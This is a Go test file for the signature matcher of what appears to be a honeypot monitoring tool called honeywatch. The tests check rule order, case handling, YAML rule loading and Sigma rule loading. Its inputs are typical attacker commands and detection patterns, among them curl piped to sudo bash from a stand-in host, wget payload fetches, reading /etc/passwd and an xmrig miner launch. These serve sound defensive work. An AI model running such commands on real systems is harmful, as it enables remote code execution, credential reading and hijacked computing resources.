package signature

import (
	"os"
	"path/filepath"
	"testing"

	"honeywatch/pkg/models"
)

func commandEvent(input string) *models.Event {
	return &models.Event{
		Source:         models.SourceSessionLog,
		Kind:           models.KindCommandInput,
		SourceIdentity: "10.0.0.5",
		Payload:        input,
	}
}

func TestMatchPayloadDownload(t *testing.T) {
	m := NewMatcher(nil, nil)
	f := m.Match(commandEvent("wget http://x/m.sh"))
	if f == nil {
		t.Fatalf("expected finding")
	}
	if f.Category != CategoryPayloadDownload || f.Severity != models.SeverityHigh {
		t.Fatalf("unexpected finding: %+v", f)
	}
	if f.Evidence.Pattern != "wget" || f.Evidence.Command != "wget http://x/m.sh" {
		t.Fatalf("unexpected evidence: %+v", f.Evidence)
	}
}

func TestMatchFirstRuleInTableOrderWins(t *testing.T) {
	m := NewMatcher(nil, nil)

	// sudo is declared after curl, so the download wins.
	f := m.Match(commandEvent("curl -s http://x/i.sh | sudo bash"))
	if f == nil || f.Category != CategoryPayloadDownload || f.Evidence.Pattern != "curl" {
		t.Fatalf("expected curl rule, got %+v", f)
	}

	// "whoami" precedes "uname" even though uname appears first in the text.
	f = m.Match(commandEvent("uname -a; whoami"))
	if f == nil || f.Evidence.Pattern != "whoami" {
		t.Fatalf("expected whoami rule, got %+v", f)
	}

	custom := NewMatcher([]Rule{
		{Pattern: "cat", Category: "FIRST", Severity: models.SeverityLow},
		{Pattern: "cat /etc/passwd", Category: "SECOND", Severity: models.SeverityHigh},
	}, nil)
	f = custom.Match(commandEvent("cat /etc/passwd"))
	if f == nil || f.Category != "FIRST" {
		t.Fatalf("declaration order must beat longest match, got %+v", f)
	}
}

func TestMatchIsCaseInsensitive(t *testing.T) {
	f := NewMatcher(nil, nil).Match(commandEvent("SUDO -i"))
	if f == nil || f.Category != CategoryPrivEsc {
		t.Fatalf("expected privilege escalation, got %+v", f)
	}
	if f.Evidence.Command != "SUDO -i" {
		t.Fatalf("evidence must keep the command as typed, got %q", f.Evidence.Command)
	}
}

func TestMatchSkipsNonInspectableEvents(t *testing.T) {
	m := NewMatcher(nil, nil)
	ev := commandEvent("wget http://x")
	ev.Kind = models.KindLoginFailed
	if f := m.Match(ev); f != nil {
		t.Fatalf("login events are not content-inspected: %+v", f)
	}
	if f := m.Match(commandEvent("ls -la")); f != nil {
		t.Fatalf("expected no match, got %+v", f)
	}

	payload := &models.Event{Source: models.SourceNetwork, Kind: models.KindPayload, Payload: "GET /bins/x86 HTTP/1.1\r\nUser-Agent: Wget"}
	if f := m.Match(payload); f == nil || f.Category != CategoryPayloadDownload {
		t.Fatalf("expected network payload to match, got %+v", f)
	}
}

func TestLoadRulesPreservesOrder(t *testing.T) {
	path := filepath.Join(t.TempDir(), "signatures.yml")
	body := `signatures:
  - pattern: "Busybox"
    category: botnet
    severity: high
  - pattern: "busybox wget"
    category: payload_download
`
	if err := os.WriteFile(path, []byte(body), 0644); err != nil {
		t.Fatalf("write: %v", err)
	}

	rules, err := LoadRules(path)
	if err != nil {
		t.Fatalf("load: %v", err)
	}
	if len(rules) != 2 || rules[0].Category != "BOTNET" || rules[1].Category != "PAYLOAD_DOWNLOAD" {
		t.Fatalf("unexpected rules: %+v", rules)
	}
	if rules[0].Pattern != "busybox" || rules[1].Severity != models.SeverityMedium {
		t.Fatalf("unexpected normalisation: %+v", rules)
	}

	f := NewMatcher(rules, nil).Match(commandEvent("busybox wget http://x"))
	if f == nil || f.Category != "BOTNET" {
		t.Fatalf("expected first rule, got %+v", f)
	}
}

func TestLoadRulesRejectsEmptyPattern(t *testing.T) {
	path := filepath.Join(t.TempDir(), "signatures.yml")
	if err := os.WriteFile(path, []byte("signatures:\n  - category: x\n"), 0644); err != nil {
		t.Fatalf("write: %v", err)
	}
	if _, err := LoadRules(path); err == nil {
		t.Fatalf("expected error")
	}
}

func TestSigmaRulesRunAfterTable(t *testing.T) {
	dir := t.TempDir()
	rule := `title: Miner Download
id: hw-0001
logsource:
  product: linux
  service: cowrie
detection:
  selection:
    input|contains: 'xmrig'
  condition: selection
level: high
tags:
  - attack.impact
  - attack.t1496
  - honeywatch.category.cryptominer
`
	if err := os.WriteFile(filepath.Join(dir, "miner.yml"), []byte(rule), 0644); err != nil {
		t.Fatalf("write: %v", err)
	}
	windows := `title: Windows Only
logsource:
  product: windows
detection:
  selection:
    Image|endswith: '\cmd.exe'
  condition: selection
`
	if err := os.WriteFile(filepath.Join(dir, "windows.yml"), []byte(windows), 0644); err != nil {
		t.Fatalf("write: %v", err)
	}

	engine, stats, err := NewSigmaEngine(dir)
	if err != nil {
		t.Fatalf("load sigma: %v", err)
	}
	if stats.Loaded != 1 || stats.SkippedDatasource != 1 {
		t.Fatalf("unexpected stats: %+v", stats)
	}

	m := NewMatcher(nil, engine)
	f := m.Match(commandEvent("./xmrig -o pool"))
	if f == nil {
		t.Fatalf("expected sigma finding")
	}
	if f.Category != "CRYPTOMINER" || f.Severity != models.SeverityHigh {
		t.Fatalf("unexpected sigma finding: %+v", f)
	}
	if f.Hint == nil || f.Hint.Tactic != "Impact" || f.Hint.ID != "T1496" {
		t.Fatalf("unexpected hint: %+v", f.Hint)
	}

	// The table still wins when both match.
	f = m.Match(commandEvent("wget http://x/xmrig"))
	if f == nil || f.Category != CategoryPayloadDownload {
		t.Fatalf("expected table rule first, got %+v", f)
	}
}

func TestTacticTitle(t *testing.T) {
	if got := tacticTitle("command_and_control"); got != "Command and Control" {
		t.Fatalf("got %q", got)
	}
	if got := tacticTitle("credential-access"); got != "Credential Access" {
		t.Fatalf("got %q", got)
	}
}
